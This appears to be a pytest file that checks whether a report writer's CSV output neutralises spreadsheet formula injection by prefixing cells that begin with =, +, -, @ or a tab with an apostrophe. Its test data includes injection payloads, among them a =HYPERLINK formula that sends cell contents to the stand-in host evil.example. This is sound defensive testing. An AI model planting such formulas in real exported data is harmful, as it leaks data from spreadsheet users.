"""CSV output opened in a spreadsheet runs no formula: class, source and task names come from
whoever built the data, and Excel, LibreOffice and Google Sheets run a cell starting with
``= + - @`` as a formula (``=HYPERLINK(...)`` sends data away when clicked)."""

from __future__ import annotations

import csv

import pandas as pd

from orchestrator.analysis.report import Report, write_report

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"cat")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "cat"]


def test_report_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    df = pd.DataFrame({"class_name": HOSTILE, "accuracy": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5], "=col": range(6)})
    rep = Report(study="s", study_run_id=None, status_line="", partial=False, tables={"per_class": df})
    write_report(rep, tmp_path)
    with open(tmp_path / "tables" / "per_class.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["class_name", "accuracy", "'=col"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE[:5]] + ["cat"]
    assert [float(r[1]) for r in rows[1:]] == [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5]  # numbers stay numbers
    assert rep.tables["per_class"]["class_name"].tolist() == HOSTILE  # the report's own table is untouched
